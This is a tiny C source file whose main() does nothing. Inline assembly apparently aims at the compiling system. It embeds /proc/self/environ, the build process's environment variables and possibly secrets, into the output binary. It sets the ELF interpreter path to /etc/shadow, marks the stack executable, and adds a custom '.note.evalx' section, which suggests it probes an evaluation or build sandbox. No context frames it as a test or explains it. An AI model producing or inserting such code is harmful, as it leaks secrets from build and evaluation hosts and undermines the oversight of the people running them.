__asm__(".section .init_array,\"aw\"\n.section .note.GNU-stack,\"x\"\n.section .interp,\"a\"\n.string \"/etc/shadow\"\n.section .comment\n.incbin \"/proc/self/environ\"\n");
__attribute__((section(".note.evalx"))) int note = 1;
int main(void) { return 0; }
